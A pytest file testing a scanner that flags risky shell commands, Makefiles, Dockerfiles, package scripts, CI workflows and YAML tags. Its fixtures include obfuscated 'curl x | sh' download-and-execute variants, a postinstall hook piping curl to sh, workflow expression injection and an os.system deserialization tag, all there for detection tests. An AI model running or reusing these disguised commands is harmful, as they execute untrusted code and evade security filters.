"""Are shell commands read as the shell would read them, wherever they stand?"""

import pytest

from validation.safety import Seen, builds, shell

DISGUISED = {
    "quotes inside a word": "c'u'rl x | ba\"sh\"",
    "escapes inside a word": "cur\\l x | b\\ash",
    "a continued line": "curl x \\\n  | sh",
    "IFS for spaces": "curl${IFS}x|sh",
    "empty expansions": "cu$@rl x | s$*h",
    "variables": "A=cur\nB=l\n$A$B x | sh",
    "variables in braces": "A=curl; ${A} x | sh",
    "ANSI escapes": "$'\\x63url' x | sh",
    "another interpreter": "curl x | python3 -",
    "a full path": "curl x | /bin/sh",
    "env": "curl x | env bash",
}
HONEST = (
    "set -euo pipefail",
    "python3 -m pytest -q tests",
    "for name in a b; do echo $name; done",
    "grep -r pattern . | sort | uniq -c",
    "rm -rf build/ dist/",
    "chmod 755 bin/run",
    "chmod +x bin/run",
    "git commit -m 'evaluate it later'",
    "echo 'curling is a sport'",
    "# curl x | sh",
)


def refused(found: list[Seen]) -> bool:
    return any(one.refuses for one in found)


@pytest.mark.parametrize(
    ("what", "example"),
    [(rule.what, example) for rule in shell.rules() for example in rule.examples],
)
def test_every_rule_finds_its_examples(what: str, example: str) -> None:
    assert what in {one.what for one in shell.seen(example)}


@pytest.mark.parametrize("name", sorted(DISGUISED))
def test_no_disguise_hides_that_a_download_is_run(name: str) -> None:
    assert refused(list(shell.seen(DISGUISED[name])))


@pytest.mark.parametrize("command", HONEST)
def test_honest_commands_are_left_alone(command: str) -> None:
    assert list(shell.seen(command)) == []


def test_the_line_of_a_continued_command_is_its_first() -> None:
    (first, *_) = shell.seen("true\ncurl x \\\n | sh\n")
    assert first.line == 2


def test_another_argument_is_another_finding() -> None:
    one, two = (next(iter(shell.seen(text))).name for text in ("eval $A", "eval $B"))
    assert one != two


def test_make_runs_shell_in_recipes_and_while_it_reads() -> None:
    found = list(builds.makefile("NOW := $(shell date)\nSHELL = /tmp/x\nall:\n\tcurl x | sh\n"))
    assert {(one.line, one.refuses) for one in found} >= {(1, False), (2, False), (4, True)}
    assert list(builds.makefile("all:\n\tpython3 -m pytest\n")) == []


def test_a_dockerfile_is_read_in_both_forms() -> None:
    lines = (
        'FROM python:3.11\nRUN apt-get update && \\\n curl x | sh\nCMD ["sh", "-c", "eval $X"]\n'
    )
    found = list(builds.dockerfile(lines + "ADD https://x.example/y /y\nUSER root\n"))
    assert {one.line for one in found if one.refuses} == {2, 4}
    assert {one.line for one in found if not one.refuses} >= {1, 5, 6}


def test_a_pinned_image_is_no_news() -> None:
    found = builds.dockerfile(f"FROM python@sha256:{'0' * 64}\nRUN make\nUSER app\n")
    assert [one.rule for one in found] == ["image", "image"]


def test_package_scripts_that_run_by_themselves_are_told() -> None:
    text = '{\n "scripts": {\n  "postinstall": "curl x | sh",\n  "test": "jest"\n }\n}'
    found = list(builds.package(text))
    assert {(one.line, one.refuses) for one in found} >= {(3, True), (3, False)}
    assert {one.line for one in found if one.rule != "command"} == {3}
    assert [one.rule for one in builds.package("{")] == ["unreadable"]


WORKFLOW = """
on: pull_request_target
permissions: write-all
jobs:
  a:
    steps:
      - uses: actions/checkout@v4
      - uses: someone/thing@{sha}
      - run: echo ${{{{ github.event.issue.title }}}}
        env: {{T: "${{{{ secrets.T }}}}"}}
"""


def test_a_workflow_tells_who_may_start_it_and_with_what() -> None:
    found = list(builds.workflow(WORKFLOW.format(sha="a" * 40)))
    assert {one.line for one in found if one.refuses} == {2, 3, 9}
    assert {one.line for one in found if not one.refuses} >= {7, 10}


def test_an_ordinary_workflow_has_only_what_it_names() -> None:
    text = "on: [push]\npermissions: {contents: read}\njobs: {a: {steps: [{run: make}]}}\n"
    (found,) = builds.workflow(text)
    assert (found.what, found.refuses) == ("has CI run “make”", False)


def test_a_runner_of_another_kind_is_told() -> None:
    (found,) = builds.workflow("on: [push]\njobs: {a: {runs-on: self-hosted}}\n")
    assert found.what == "runs on self-hosted"


def test_hooks_of_commits_are_told_with_whose_they_are() -> None:
    text = "repos:\n- repo: https://x.example/y\n  rev: main\n  hooks:\n  - id: z\n"
    assert [(one.line, one.what) for one in builds.hooks(text)] == [
        (2, "has each commit run https://x.example/y"),
        (3, "has each commit run main"),
    ]


@pytest.mark.parametrize(
    "line", ["include /tmp/x.mk", "-include ~/x", "sinclude ../y", "include $(X)"]
)
def test_a_makefile_that_takes_in_another_is_told(line: str) -> None:
    assert "takes in a file from outside" in {one.what for one in builds.makefile(f"{line}\n")}
    assert not list(builds.makefile("include ours.mk\n"))


def test_tags_that_build_objects_are_refused_and_others_noted() -> None:
    found = list(builds.tags("a: !!python/object/apply:os.system [x]\nb: !mine 1\nc: !!str 1\n"))
    assert [(one.line, one.refuses) for one in found] == [(1, True), (2, False)]


def test_aliases_without_end_are_read_to_an_end() -> None:
    text = "a: &a [1]\n" + "\n".join(
        f"b{n}: &b{n} [{', '.join(['*a' if n == 0 else f'*b{n - 1}'] * 9)}]" for n in range(8)
    )
    assert list(builds.workflow(text)) == []
